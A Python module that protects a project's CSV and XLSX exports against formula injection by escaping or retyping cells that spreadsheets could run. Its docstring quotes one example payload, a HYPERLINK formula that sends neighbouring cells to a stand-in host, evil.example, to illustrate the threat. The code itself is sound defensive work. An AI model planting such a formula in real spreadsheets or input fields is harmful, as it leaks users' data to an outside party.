"""Cells every export writes so that a spreadsheet shows them as written, never runs them.

An answer, a feedback title or a unit name typed by anyone can start with `=`, and a spreadsheet
opening the export would run it (`=HYPERLINK("http://evil.example/?leak="&A1, "Bấm vào đây")`
sends the neighbouring cells away). OWASP's CSV injection rule: a text cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return is written as text.

- CSV has no cell types: such a text gets a leading apostrophe, which spreadsheets read as
  "this is text" and do not show. Numbers stay numbers: `-3`, `-1,5` or `+2.5e3` as text are left
  alone, since a spreadsheet reads them as the number they are, not as a formula.
- XLSX has cell types: every text is stored as a text cell with its value unchanged. openpyxl
  turns a text starting with `=` into a formula, so such cells are written with the text type.

Every exporter writes through `csv_writer`/`csv_row` or `xlsx_row`/`formulas_as_text`; the leaf
module imports nothing from Django, so the engine's command could use it too.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")
# A number as a spreadsheet reads it (sign, digits with . or , separators, exponent, percent).
_NUMBER = re.compile(r"[+-]?(?:\d[\d.,]*|[.,]\d+)(?:[eE][+-]?\d+)?%?")


def is_formula_like(value: Any) -> bool:
    """True for a text a spreadsheet could take for a formula (a signed number is not one)."""
    return (
        isinstance(value, str) and value != "" and value[0] in FORMULA_STARTS
        and _NUMBER.fullmatch(value) is None
    )


def csv_value(value: Any) -> Any:
    """The value to hand to csv.writer: formula-like text behind an apostrophe, anything else as it is."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list:
    return [csv_value(v) for v in values]


class SafeCsvWriter:
    """csv.writer whose every cell goes through csv_value."""

    def __init__(self, file, *args, **kwargs):
        self._writer = csv.writer(file, *args, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._writer.writerow(csv_row(row))


def csv_writer(file, *args, **kwargs) -> SafeCsvWriter:
    """A drop-in for csv.writer(file, ...) that writes formula-like text as text."""
    return SafeCsvWriter(file, *args, **kwargs)


def xlsx_value(sheet, value: Any) -> Any:
    """The value to append to an openpyxl sheet: a text starting with `=` as a text cell."""
    if isinstance(value, str) and value.startswith("="):
        from openpyxl.cell import WriteOnlyCell  # a CSV writer (the engine's command too) never loads openpyxl

        cell = WriteOnlyCell(sheet, value)
        cell.data_type = "s"  # openpyxl made it a formula ("f")
        return cell
    return value


def xlsx_row(sheet, values: Iterable[Any]) -> list:
    """A row for sheet.append(...), in write-only workbooks as in ordinary ones."""
    return [xlsx_value(sheet, v) for v in values]


def formulas_as_text(book) -> None:
    """Turn every formula cell of an ordinary (not write-only) workbook into a text cell, before saving.

    chiso's exports hold values only; a cell openpyxl took for a formula came from a text that
    starts with `=`."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
